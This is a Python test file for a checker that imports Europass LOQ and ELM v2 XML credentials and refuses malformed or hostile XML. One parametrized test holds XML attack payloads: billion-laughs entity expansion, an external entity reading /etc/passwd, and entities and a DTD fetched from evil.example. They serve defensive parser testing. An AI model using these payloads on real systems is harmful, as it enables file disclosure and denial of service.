"""Europass XML is read as its descriptors: the LOQ upload of learning opportunities (one offer per opportunity,
through the ELM 3 importer) and ELM v2 ``europassCredential`` credentials (one credential per achievement,
through the ELM 2 reading of the EBSI attestation); a finding points at its XML line and element. Hostile XML
(entities, external DTDs, deep nesting, huge texts, bad encodings) is refused with a located finding, never a
traceback, and other XML stays refused as before."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qa_checker.document import Document
from qa_checker.findings import Severity
from qa_checker.limits import Limits
from qa_checker.loaders import Loaders, load_file, sniff
from tests.conftest import realworld_or_skip

FIXTURES = Path(__file__).parent / "fixtures_xml"
LOQ = FIXTURES / "loq-data-protection.xml"
ELM2 = FIXTURES / "elm2-data-protection.xml"
LOQ_OPEN = b'<Courses xmlns="http://data.europa.eu/snb/model/ap/loq-constraints/">'


def _read(raw: bytes, name: str = "upload.xml", limits: Limits | None = None) -> list[Document]:
    return Loaders(limits)._xml(raw, name)


def _refusal(raw: bytes, limits: Limits | None = None) -> tuple[str, str, int | None]:
    (document,) = _read(raw, limits=limits)
    assert document.data is None
    errors = [f for f in document.findings if f.severity is Severity.ERROR]
    assert errors, document.findings
    return errors[0].rule, errors[0].message, errors[0].origin.line if errors[0].origin else None


def test_each_learning_opportunity_of_an_loq_file_is_an_offer_with_the_annex_i_elements():
    first, second = load_file(LOQ)
    assert first.source == f"{LOQ} [learningOpportunity 1]" and second.source == f"{LOQ} [learningOpportunity 2]"
    assert first.imported_from == "ELM v3 LearningOpportunity (from Europass LOQ XML)"
    assert first.data["id"] == "https://learn.hs-nordkueste.example/lo/dpbd-2025-spring"
    assert second.data["id"] == "https://learn.hs-nordkueste.example/lo/dpbd-2025-autumn"
    data = first.data
    assert data["kind"] == "offer"
    assert data["title"] == {"en": "Data Protection by Design", "de": "Datenschutz durch Technikgestaltung"}
    (body,) = data["awarding_bodies"]
    assert body["name"]["de"] == "Hochschule Nordküste" and body["country"] == "DE"
    assert data["workload"] == {"ects": 5, "hours": 125}
    assert data["level"] == {"eqf": 6}
    assert data["field_of_education"] == "0613"
    assert data["languages"] == ["en"]
    assert [o["type"] for o in data["learning_outcomes"]] == ["skill", "competence", "knowledge"]
    assert data["learning_outcomes"][1]["text"] == {
        "en": "Carry out a data protection impact assessment for a new processing operation."
    }
    assert data["participation"] == {
        "mode": "online",
        "learning_setting": "non-formal",
        "schedule": {"start": "2025-03-03", "end": "2025-05-30", "duration": "P12W"},
    }
    assert data["assessment"]["types"] == ["written-examination", "project-work"]
    assert data["prerequisites"]["en"].startswith("A bachelor's degree")
    assert data["quality_assurance"]["accreditations"][0]["type"] == "institutional-qa"
    assert data["quality_assurance"]["accreditations"][0]["expires"] == "2029-06-30"


def test_an_imported_value_points_at_its_xml_line_and_element():
    first = load_file(LOQ)[0]
    lines = LOQ.read_text(encoding="utf-8").splitlines()
    ects = first.origin_for("/workload/ects")
    assert ects is not None and ects.line is not None
    assert lines[ects.line - 1].strip() == "<point>5</point>"
    assert ects.pointer == "/Courses/learningAchievementSpecificationReferences/qualification/creditPoint/point"
    outcome = first.origin_for("/learning_outcomes/2")
    assert outcome is not None and "lo-statement/3" in lines[outcome.line - 1]
    assert outcome.pointer == "/Courses/learningOutcomeReferences/learningOutcome[3]"
    (note,) = [f for f in first.findings if "isPartialQualification" in f.message]
    assert note.origin is not None and "<isPartialQualification>" in lines[note.origin.line - 1]


def test_an_elm_v2_credential_is_read_by_its_achievement():
    (document,) = load_file(ELM2)
    data = document.data
    assert document.imported_from == "Europass ELM v2 credential (XML)"
    assert data["kind"] == "credential"
    assert data["id"] == "urn:credential:5b1f2c0e-8d1a-4f55-9a63-2f0d4c1e7a10"
    assert data["title"]["en"] == "Data Protection by Design"
    assert data["awarding_bodies"] == [
        {
            "name": {"de": "Hochschule Nordküste"},
            "identifier": {"scheme": "national", "value": "DE-HRB-123456"},
            "url": "https://www.hs-nordkueste.example/",
        }
    ]
    assert data["workload"] == {"ects": 5, "hours": 125}
    assert data["level"] == {"eqf": 6}
    assert data["field_of_education"] == "0613"
    assert len(data["learning_outcomes"]) == 2
    assert data["prerequisites"]["en"].startswith("A bachelor's degree")
    assert data["grade"] == {"en": "1.7 (good)"}
    assert data["assessment"]["grading_scheme"] == {"en": "German university grades 1.0 to 5.0"}
    assert data["learner"] == {"name": "Maren Jensen", "date_of_birth": "1994-09-21"}
    assert data["issue_date"] == "2025-06-02"
    lines = ELM2.read_text(encoding="utf-8").splitlines()
    level = document.origin_for("/level/eqf")
    assert level is not None and "<hasEQFLevel" in lines[level.line - 1]


def test_an_elm_v2_issuer_naming_no_record_of_the_file_is_told_at_its_line():
    """The EU's own generic-profile sample names its issuer urn:epass:org:2 and defines only org:1: the awarding
    body was only 'missing', with no word of the reference, as the LOQ reading and ELM v3 JSON-LD tell it."""
    text = ELM2.read_text(encoding="utf-8")
    assert '<cred:issuer idref="urn:epass:org:1"/>' in text
    raw = text.replace('<cred:issuer idref="urn:epass:org:1"/>', '<cred:issuer idref="urn:epass:org:9"/>')
    (document,) = _read(raw.encode("utf-8"))
    line = raw.splitlines().index('   <cred:issuer idref="urn:epass:org:9"/>') + 1
    (told,) = [f for f in document.findings if "names no record of the file" in f.message]
    assert told.rule == "MC-IM-002" and "urn:epass:org:9" in told.message and told.origin.line == line
    (clean,) = load_file(ELM2)
    assert not [f for f in clean.findings if "names no record" in f.message]


def test_an_elm_v2_credential_without_achievements_is_refused_where_its_subject_is():
    raw = (
        b'<europassCredential xmlns="http://data.europa.eu/snb">\n'
        b'  <credentialSubject id="urn:epass:person:1">\n'
        b"    <fullName><text lang='en'>Maren Jensen</text></fullName>\n"
        b"  </credentialSubject>\n</europassCredential>"
    )
    rule, message, line = _refusal(raw)
    assert rule == "MC-IM-001" and "lists no learning achievement" in message and line == 2


def test_an_loq_file_without_opportunities_is_refused():
    rule, message, line = _refusal(LOQ_OPEN + b"<agentReferences/></Courses>")
    assert rule == "MC-IM-001" and "lists no learning opportunity" in message and line == 1


@pytest.mark.parametrize(
    ("name", "raw", "rule", "words", "line"),
    [
        (
            "billion laughs",
            b'<?xml version="1.0"?>\n<!DOCTYPE Courses [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;">\n]>\n'
            + LOQ_OPEN
            + b"<x>&lol2;</x></Courses>",
            "MC-LD-001",
            "declares the entity lol",
            3,
        ),
        (
            "external entity",
            b'<?xml version="1.0"?>\n<!DOCTYPE Courses [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
            + LOQ_OPEN
            + b"&x;</Courses>",
            "MC-LD-001",
            "declares the entity x",
            2,
        ),
        (
            "parameter entity",
            b'<!DOCTYPE Courses [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>' + LOQ_OPEN + b"</Courses>",
            "MC-LD-001",
            "declares the entity p",
            1,
        ),
        (
            "external DTD",
            b'<?xml version="1.0"?>\n<!DOCTYPE Courses SYSTEM "http://evil.example/x.dtd">\n'
            + LOQ_OPEN
            + b"</Courses>",
            "MC-LD-001",
            "external DTD (http://evil.example/x.dtd)",
            2,
        ),
        ("malformed", LOQ_OPEN + b"\n<a></b></Courses>", "MC-LD-002", "mismatched tag", 2),
        (
            "truncated",
            LOQ_OPEN + b"<learningOpportunityReferences><learningOpportunity id='x'><title language='en'>Da",
            "MC-LD-002",
            "no element found",
            1,
        ),
        ("undefined entity", LOQ_OPEN + b"&nbsp;</Courses>", "MC-LD-002", "undefined entity", 1),
        ("NUL byte", LOQ_OPEN + b"\x00</Courses>", "MC-LD-002", "not well-formed", 1),
        ("deep", LOQ_OPEN + b"<a>" * 5000 + b"</a>" * 5000 + b"</Courses>", "MC-LD-004", "nested too deeply", 1),
        (
            "huge attribute",
            LOQ_OPEN + b'<a b="' + b"x" * (Limits().max_string_chars + 1) + b'"/></Courses>',
            "MC-LD-005",
            "max-string-chars",
            1,
        ),
        (
            "huge text split by comments",
            LOQ_OPEN + b"<a>" + b"xxxxxxx<!---->" * (Limits().max_string_chars // 7 + 1) + b"</a></Courses>",
            "MC-LD-005",
            "max-string-chars",
            1,
        ),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 40 else "",
)
def test_hostile_xml_is_refused_with_a_located_finding(name, raw, rule, words, line):
    found_rule, message, found_line = _refusal(raw)
    assert (found_rule, found_line) == (rule, line), message
    assert words in message


def test_too_many_elements_are_refused_at_the_limit():
    rule, message, line = _refusal(LOQ_OPEN + b"\n" + b"<a/>" * 100 + b"</Courses>", Limits(max_nodes=50))
    assert rule == "MC-LD-005" and "max-nodes" in message and line == 2


def test_nesting_within_a_raised_depth_limit_is_refused_not_a_traceback():
    opening = LOQ_OPEN + b"<learningOpportunityReferences><learningOpportunity id='x'>"
    raw = (
        opening
        + b"<a>" * 20_000
        + b"</a>" * 20_000
        + b"</learningOpportunity></learningOpportunityReferences></Courses>"
    )
    rule, message, _ = _refusal(raw, Limits(max_depth=100_000))
    assert rule == "MC-LD-004" and "nested too deeply" in message


def test_too_many_opportunities_are_refused_at_the_limit():
    items = b"".join(b'<learningOpportunity id="lo-%d"/>' % n for n in range(5))
    rule, message, _ = _refusal(
        LOQ_OPEN + b"<learningOpportunityReferences>" + items + b"</learningOpportunityReferences></Courses>",
        Limits(max_documents=3),
    )
    assert rule == "MC-LD-005" and "max-documents" in message


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "iso-8859-1"])
def test_an_loq_file_is_read_whatever_its_encoding(codec):
    text = LOQ.read_text(encoding="utf-8").split("?>", 1)[1]
    declared = "UTF-16" if codec.startswith("utf-16") else codec.upper().replace("-SIG", "")
    documents = _read(f'<?xml version="1.0" encoding="{declared}"?>{text}'.encode(codec))
    assert [d.data["title"]["de"] for d in documents] == ["Datenschutz durch Technikgestaltung"] * 2


@pytest.mark.parametrize(
    ("raw", "rule", "words"),
    [
        (b"id: MC-1\ntitle: {en: Data Ethics}\n", "MC-LD-002", "holds no XML"),
        (b'\xef\xbb\xbf  {"id": "MC-1"}', "MC-LD-002", "holds no XML"),
        (b"", "MC-LD-006", "the file is empty"),
        (b" \r\n\t", "MC-LD-006", "the file is empty"),
        (b'<?xml version="1.0"?>\nid: MC-1\ntitle: Data Ethics\n', "MC-LD-002", "not well-formed at line 2, column 1"),
        (b"<a><b></a>", "MC-LD-002", "not well-formed at line 1, column 9: mismatched tag"),
    ],
)
def test_a_file_named_xml_that_holds_no_xml_is_an_error(raw: bytes, rule: str, words: str) -> None:
    """A descriptor saved as .xml, or an empty .xml, was a skipped 'XML document that is not a credential': a
    batch of them exited 0, checked by nobody."""
    (document,) = _read(raw)
    (finding,) = document.findings
    assert (finding.rule, finding.severity) == (rule, Severity.ERROR) and words in finding.message


def test_other_xml_stays_refused_as_before():
    (pom,) = _read(b'<?xml version="1.0"?><project><version>1</version></project>', "pom.xml")
    assert "an XML document that is not a credential" in pom.findings[0].message
    (badge,) = _read(b'<?xml version="1.0"?><assertion xmlns="https://w3id.org/openbadges/v2"/>', "badge.xml")
    assert "of XML credentials only Europass ones are read" in badge.findings[0].message
    # Marked as Europass but another document (the LOQ schema itself): refused as not read.
    (schema,) = _read(
        b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" '
        b'targetNamespace="http://data.europa.eu/snb/model/ap/loq-constraints/"/>',
        "loq-copy.xml",
    )
    assert "of XML credentials only Europass ones are read" in schema.findings[0].message


_NAMES = st.sampled_from(
    ["learningOpportunity", "qualification", "title", "creditPoint", "point", "EQFLevel", "a", "type", "text"]
)
_ATTRIBUTES = st.dictionaries(
    st.sampled_from(["id", "idref", "uri", "language", "lang"]), st.text(max_size=8).map(lambda t: t.replace('"', ""))
)


@st.composite
def _xml(draw: st.DrawFn, depth: int = 0) -> str:
    name = draw(_NAMES)
    attributes = "".join(
        f' {k}="{v}"' for k, v in draw(_ATTRIBUTES).items() if all(c.isprintable() and c not in "<&" for c in v)
    )
    inner = draw(st.text(alphabet="ab <>&;!-/\n5", max_size=6)) if draw(st.booleans()) else ""
    children = "".join(draw(st.lists(_xml(depth + 1), max_size=3))) if depth < 4 else ""
    return f"<{name}{attributes}>{inner}{children}</{name}>"


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(body=_xml(), root=st.sampled_from([LOQ_OPEN.decode(), '<europassCredential xmlns="http://data.europa.eu/snb">']))
def test_random_xml_never_raises(body, root):
    closing = "</Courses>" if root.startswith("<Courses") else "</europassCredential>"
    for raw in (
        f"{root}<learningOpportunityReferences>{body}</learningOpportunityReferences>{closing}",
        f"{root}{body}{closing}",
    ):
        for document in _read(raw.encode("utf-8", "surrogatepass")):
            assert document.data is not None or document.findings


@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
@given(cut=st.integers(min_value=0, max_value=10_000), junk=st.binary(max_size=8))
def test_a_cut_or_corrupted_loq_file_never_raises(cut, junk):
    raw = LOQ.read_bytes()
    at = cut % len(raw)
    for document in _read(raw[:at] + junk + raw[at + len(junk) :]):
        assert document.data is not None or document.findings


def test_the_real_loq_upload_and_elm_v2_credential_are_read():
    root = realworld_or_skip()
    loq = load_file(root / "elm-v3-european-learning-model" / "loq-xml" / "loq.xml")
    assert [d.data["id"] for d in loq] == ["http://LOP-01", "http://LOP-02", "http://Q-02"]
    assert all(d.data["kind"] == "offer" and d.data["level"]["eqf"] in (2, 3) for d in loq)
    assert loq[0].data["awarding_bodies"][0]["url"] == "http://www.example.com"
    assert all(f.origin is not None and f.origin.line for d in loq for f in d.findings if f.origin)
    (v2,) = load_file(root / "edc-european-digital-credentials" / "xml-elm-v2" / "validXMLCredential.xml")
    assert v2.data is None and "lists no learning achievement" in v2.findings[0].message
    assert v2.findings[0].origin is not None and v2.findings[0].origin.line == 25


@pytest.mark.parametrize("name", ["loq-data-protection.xml", "elm2-data-protection.xml"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_europass_xml_on_standard_input_is_read_as_xml(name: str, encoding: str) -> None:
    raw = (FIXTURES / name).read_text(encoding="utf-8").encode(encoding)
    assert sniff(raw) == ".xml"
    documents = Loaders().load_stdin(raw)
    assert documents and all(isinstance(d.data, dict) for d in documents)


def test_other_markup_on_standard_input_is_not_taken_for_europass_xml() -> None:
    assert sniff(b'<?xml version="1.0"?><project/>') == ".yaml"  # refused there as markup, not a descriptor
    assert sniff(b"<!DOCTYPE html><html><body>course</body></html>") == ".html"  # a web page: its JSON-LD is read


def test_an_loq_upload_of_a_whole_catalogue_is_read_whole() -> None:
    """An LOQ opportunity is read some 190 times over (its references resolved); a fixed read limit refused a
    catalogue of about 260 opportunities. Left at its default, the limit grows with the document."""
    lines = (FIXTURES / "loq-data-protection.xml").read_text(encoding="utf-8").splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if "<learningOpportunity " in line)
    end = next(i for i, line in enumerate(lines) if "</learningOpportunity>" in line) + 1
    close = next(i for i, line in enumerate(lines) if "</learningOpportunityReferences>" in line)
    opportunity = "".join(lines[start:end])
    runs = "".join(opportunity.replace("dpbd-2025-spring", f"dpbd-run-{n}") for n in range(600))
    raw = ("".join(lines[:start]) + runs + "".join(lines[close:])).encode("utf-8")
    documents = Loaders(Limits(max_documents=1_000))._xml(raw, "catalogue.xml")
    assert len(documents) == 600 and all(isinstance(d.data, dict) for d in documents)
